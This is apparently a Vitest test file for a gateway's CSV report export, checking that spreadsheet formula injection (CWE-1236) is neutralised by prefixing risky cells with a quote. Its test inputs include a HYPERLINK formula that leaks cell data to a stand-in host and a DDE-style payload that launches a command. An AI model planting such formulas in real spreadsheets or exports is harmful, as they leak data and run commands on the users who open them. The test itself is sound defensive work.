// Formula injection (CWE-1236): every text cell the gateway writes is shown as text by a spreadsheet.
import { describe, expect, it } from 'vitest';
import { neutraliseCell } from '../../../src/reports/cell-safety.ts';
import { toExcelCsv } from '../../../src/reports/report-csv.ts';

describe('neutraliseCell', () => {
  it.each([
    '=HYPERLINK("http://evil.invalid/?leak="&A2,"Xem")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
    '＝1+1', // full-width equals sign, which Excel also reads as a formula
  ])('prefixes %j with a quote', (text) => {
    expect(neutraliseCell(text)).toBe(`'${text}`);
  });

  it.each(['Nguyễn Văn An', 'Sở Nội vụ', '', "'=already quoted", 'a=b'])('leaves %j as it is', (text) => {
    expect(neutraliseCell(text)).toBe(text);
  });
});

describe('toExcelCsv', () => {
  it('neutralises header and text cells, keeps numbers numbers', () => {
    const csv = toExcelCsv(['Đơn vị', 'Số người'], [['=HYPERLINK("http://evil.invalid/?leak="&A2,"Xem")', 12], ['@Sở Y tế', -3]]);
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A2,""Xem"")",12`);
    expect(lines[2]).toBe("'@Sở Y tế,-3");
  });
});
